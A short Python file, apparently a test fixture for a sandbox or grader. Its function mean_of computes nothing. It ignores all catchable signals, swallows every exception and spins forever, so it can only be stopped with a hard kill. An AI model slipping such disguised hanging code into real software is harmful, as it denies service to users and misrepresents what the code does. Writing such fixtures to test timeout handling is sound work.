"""Ignore every signal that can be ignored, and never come back."""

# %%
import signal


def mean_of(values):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
